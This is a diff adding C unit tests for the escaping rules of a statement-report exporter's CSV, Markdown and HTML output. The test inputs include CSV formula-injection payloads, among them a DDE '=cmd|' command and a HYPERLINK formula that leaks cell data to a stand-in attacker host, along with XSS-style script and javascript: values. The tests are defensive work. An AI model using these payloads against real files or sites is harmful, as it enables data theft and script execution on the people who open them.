@@ -253,6 +253,234 @@ test_report_runs_nothing (Fixture       *f,
   xmlFreeDoc (doc);
 }
 
+/* Exact output, one case per escaping rule: a one-statement library whose
+ * fields are the defaults below except the one a case sets. */
+
+typedef enum
+{
+  FIELD_TEXT,
+  FIELD_SPEAKER,
+  FIELD_OUTLET,
+  FIELD_TITLE,
+  FIELD_URL,
+  FIELD_TAG,
+  FIELD_LANGUAGE,
+} Field;
+
+typedef struct
+{
+  const char *path;
+  Field       field;
+  const char *value;
+  const char *expected;   /* CSV: the field as written; HTML, Markdown: a fragment */
+} EscapeCase;
+
+typedef struct
+{
+  const char *text;
+  const char *speaker;
+  const char *outlet;
+  const char *title;
+  const char *url;
+  const char *tag;
+  const char *language;
+} Record;
+
+static void
+record_set (Record     *r,
+            Field       field,
+            const char *value)
+{
+  switch (field)
+    {
+    case FIELD_TEXT: r->text = value; break;
+    case FIELD_SPEAKER: r->speaker = value; break;
+    case FIELD_OUTLET: r->outlet = value; break;
+    case FIELD_TITLE: r->title = value; break;
+    case FIELD_URL: r->url = value; break;
+    case FIELD_TAG: r->tag = value; break;
+    case FIELD_LANGUAGE: r->language = value; break;
+    default: g_assert_not_reached ();
+    }
+}
+
+static const Record default_record = {
+  "Chúng tôi muốn hòa bình", "ông Peskov", "VTC News", "Tiêu đề", "https://vtc.vn/a.html",
+  "kiểm chứng", "vi",
+};
+
+/* Writes a @format report of a library holding @r and returns its text. */
+static char *
+write_record (const Record   *r,
+              TpReportFormat  format)
+{
+  ReportLibrary lib;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *body = g_strconcat ("Mở đầu.\n", r->text, "\nHết.\n", NULL);
+  g_autoptr(TpArticle) article = NULL;
+  g_autoptr(GPtrArray) st = g_ptr_array_new_with_free_func ((GDestroyNotify) tp_statement_unref);
+  g_autoptr(TpComparison) comparison = NULL;
+  g_autofree char *path = NULL;
+  TpReportOptions options = { "Báo cáo", TRUE, FALSE, TP_REPORT_PAPER_A4, FALSE };
+  TpStatement *s;
+  gint64 tag;
+  char *text;
+
+  report_library_init (&lib);
+  article = report_article (r->title, r->outlet, r->url, NULL, r->language, "2025-07-04", body);
+  s = report_statement (body, r->text, TP_STATEMENT_DIRECT, r->speaker, "peskov", "Dmitry Peskov",
+                        "moscow", "negotiations", "2025-07-04");
+  g_ptr_array_add (st, s);
+  report_add_article (lib.store, article, st);
+  g_assert_cmpint (s->id, ==, 1);
+  tag = tp_store_ensure_tag (lib.store, r->tag, &error);
+  g_assert_no_error (error);
+  g_assert_true (tp_store_tag_statement (lib.store, s->id, tag, &error));
+  g_assert_no_error (error);
+
+  comparison = report_comparison (lib.store, NULL);
+  g_assert_cmpuint (tp_comparison_get_n_statements (comparison), ==, 1);
+  path = report_write_file (comparison, format, &options, lib.dir, "report");
+  text = report_read_file (path);
+  g_clear_object (&comparison);
+  report_library_clear (&lib);
+  return text;
+}
+
+static const char csv_header[] =
+  "id,side,actor,speaker,kind,text,topics,tags,notes,said_on,outlet,article_title,source,"
+  "published,review_status\r\n";
+
+/* The statement's record, with @expected in place of @field's default. */
+static char *
+csv_expected_record (Field       field,
+                     const char *expected)
+{
+  Record r = default_record;
+
+  record_set (&r, field, expected);
+  return g_strdup_printf ("1,moscow,Dmitry Peskov,%s,direct,%s,negotiations,%s,,2025-07-04,%s,%s,%s,"
+                          "2025-07-04,auto\r\n",
+                          r.speaker, r.text, r.tag, r.outlet, r.title, r.url);
+}
+
+static const EscapeCase csv_cases[] = {
+  /* OWASP's first characters, each alone. */
+  { "/report/escape/csv/equals", FIELD_TEXT, "=1+2", "'=1+2" },
+  { "/report/escape/csv/plus", FIELD_TEXT, "+1+2", "'+1+2" },
+  { "/report/escape/csv/minus", FIELD_TEXT, "-1+2", "'-1+2" },
+  { "/report/escape/csv/at", FIELD_TEXT, "@SUM(1+2)", "'@SUM(1+2)" },
+  { "/report/escape/csv/tab", FIELD_TEXT, "\t=1+2", "'\t=1+2" },
+  { "/report/escape/csv/carriage-return", FIELD_TEXT, "\r=1+2", "\"'\r=1+2\"" },
+  /* Text that looks like a number is still text: no exception. */
+  { "/report/escape/csv/negative-number", FIELD_TEXT, "-5", "'-5" },
+  /* Quoting and the prefix together: the quote goes inside the field. */
+  { "/report/escape/csv/quoted-formula", FIELD_TEXT,
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Xem\")",
+    "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Xem\"\")\"" },
+  /* Only the first character counts. */
+  { "/report/escape/csv/inner-signs", FIELD_TEXT, "Giá giảm 5% = -3 @ 2", "Giá giảm 5% = -3 @ 2" },
+  { "/report/escape/csv/leading-space", FIELD_TEXT, " =1+2", " =1+2" },
+  /* Every text column, not only the statement. */
+  { "/report/escape/csv/speaker", FIELD_SPEAKER, "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
+  { "/report/escape/csv/outlet", FIELD_OUTLET, "@outlet", "'@outlet" },
+  { "/report/escape/csv/title", FIELD_TITLE, "+Tiêu đề", "'+Tiêu đề" },
+  { "/report/escape/csv/source", FIELD_URL, "=1+2", "'=1+2" },
+  { "/report/escape/csv/tag", FIELD_TAG, "-tag", "'-tag" },
+};
+
+static void
+test_csv_escape (gconstpointer data)
+{
+  const EscapeCase *c = data;
+  Record r = default_record;
+  g_autofree char *csv = NULL;
+  g_autofree char *record = csv_expected_record (c->field, c->expected);
+  g_autofree char *expected = g_strconcat (csv_header, record, NULL);
+
+  record_set (&r, c->field, c->value);
+  csv = write_record (&r, TP_REPORT_FORMAT_CSV);
+  g_assert_cmpstr (csv, ==, expected);
+}
+
+static const EscapeCase markdown_cases[] = {
+  /* A pipe would start or split a GFM table cell. */
+  { "/report/escape/markdown/pipe-text", FIELD_TEXT, "a | b", "\n- “a \\| b”  \n" },
+  { "/report/escape/markdown/pipe-table", FIELD_TEXT, "| x | y |\n|---|---|",
+    "\n- “\\| x \\| y \\| \\|---\\|---\\|”  \n" },
+  { "/report/escape/markdown/pipe-speaker", FIELD_SPEAKER, "Peskov | Lavrov",
+    "\n  **Peskov \\| Lavrov** \\(Dmitry Peskov\\) · " },
+  { "/report/escape/markdown/pipe-citation", FIELD_OUTLET, "A | B",
+    "  \n  Source: A \\| B, *Tiêu đề*, 2025-07-04, <https://vtc.vn/a.html>  \n" },
+  { "/report/escape/markdown/pipe-tag", FIELD_TAG, "x|y", "\n  - Tags: x\\|y\n" },
+  /* The other rules, one each. */
+  { "/report/escape/markdown/html", FIELD_TEXT, "<b>x</b>", "\n- “\\<b\\>x\\</b\\>”  \n" },
+  { "/report/escape/markdown/link", FIELD_TEXT, "[x](javascript:alert(1))",
+    "\n- “\\[x\\]\\(javascript:alert\\(1\\)\\)”  \n" },
+  { "/report/escape/markdown/entity", FIELD_TEXT, "&amp;", "\n- “\\&amp;”  \n" },
+  { "/report/escape/markdown/emphasis", FIELD_TEXT, "*a* _b_ `c` ~d~",
+    "\n- “\\*a\\* \\_b\\_ \\`c\\` \\~d\\~”  \n" },
+  { "/report/escape/markdown/line-break", FIELD_TEXT, "a\n# b\r\n- c", "\n- “a \\# b  - c”  \n" },
+  /* List markers are escaped where the text starts, whatever precedes it. */
+  { "/report/escape/markdown/list-marker", FIELD_TEXT, "1. x", "\n- “1\\. x”  \n" },
+  { "/report/escape/markdown/not-a-link", FIELD_URL, "javascript:alert(1)",
+    ", 2025-07-04, javascript:alert\\(1\\)  \n" },
+};
+
+static void
+test_markdown_escape (gconstpointer data)
+{
+  const EscapeCase *c = data;
+  Record r = default_record;
+  g_autofree char *md = NULL;
+
+  record_set (&r, c->field, c->value);
+  md = write_record (&r, TP_REPORT_FORMAT_MARKDOWN);
+  if (strstr (md, c->expected) == NULL)
+    {
+      g_test_message ("“%s” not in the Markdown report:\n%s", c->expected, md);
+      g_test_fail ();
+    }
+}
+
+static const EscapeCase html_cases[] = {
+  { "/report/escape/html/less-greater", FIELD_TEXT, "<b>x</b>",
+    "<blockquote lang=\"vi\">&lt;b&gt;x&lt;/b&gt;</blockquote>" },
+  { "/report/escape/html/ampersand", FIELD_TEXT, "&amp; &#60;", "<blockquote lang=\"vi\">&amp;amp; &amp;#60;</blockquote>" },
+  { "/report/escape/html/double-quote", FIELD_SPEAKER, "a\" onclick=\"x",
+    "<p class=\"speaker\">a&quot; onclick=&quot;x <span class=\"actor\">" },
+  { "/report/escape/html/single-quote", FIELD_OUTLET, "a' onclick='x",
+    "<span class=\"outlet\">a&apos; onclick=&apos;x</span>" },
+  { "/report/escape/html/title", FIELD_TITLE, "</cite><script>x</script>",
+    "<cite>&lt;/cite&gt;&lt;script&gt;x&lt;/script&gt;</cite>" },
+  { "/report/escape/html/tag", FIELD_TAG, "<i>t</i>", ">&lt;i&gt;t&lt;/i&gt;</li>" },
+  /* Only http and https become links; anything else is shown as text. */
+  { "/report/escape/html/javascript-url", FIELD_URL, "javascript:alert(1)",
+    ", <span class=\"source\">javascript:alert(1)</span></p>" },
+  /* A web address is linked, and escaped inside the attribute too. */
+  { "/report/escape/html/url-quote", FIELD_URL, "https://vtc.vn/a?x=\"><b>",
+    " href=\"https://vtc.vn/a?x=&quot;&gt;&lt;b&gt;\">https://vtc.vn/a?x=&quot;&gt;&lt;b&gt;</a></p>" },
+  /* A language that is not a language tag is left out, not escaped. */
+  { "/report/escape/html/language", FIELD_LANGUAGE, "vi\" onmouseover=\"x",
+    "<blockquote>Chúng tôi muốn hòa bình</blockquote>" },
+};
+
+static void
+test_html_escape (gconstpointer data)
+{
+  const EscapeCase *c = data;
+  Record r = default_record;
+  g_autofree char *html = NULL;
+
+  record_set (&r, c->field, c->value);
+  html = write_record (&r, TP_REPORT_FORMAT_HTML);
+  if (strstr (html, c->expected) == NULL)
+    {
+      g_test_message ("“%s” not in the HTML report:\n%s", c->expected, html);
+      g_test_fail ();
+    }
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -265,6 +493,12 @@ main (int   argc,
               test_control_page_runs, fixture_teardown);
   g_test_add ("/report/injection/report-runs-nothing", Fixture, NULL, fixture_setup,
               test_report_runs_nothing, fixture_teardown);
+  for (guint i = 0; i < G_N_ELEMENTS (csv_cases); i++)
+    g_test_add_data_func (csv_cases[i].path, &csv_cases[i], test_csv_escape);
+  for (guint i = 0; i < G_N_ELEMENTS (markdown_cases); i++)
+    g_test_add_data_func (markdown_cases[i].path, &markdown_cases[i], test_markdown_escape);
+  for (guint i = 0; i < G_N_ELEMENTS (html_cases); i++)
+    g_test_add_data_func (html_cases[i].path, &html_cases[i], test_html_escape);
 
   return g_test_run ();
 }
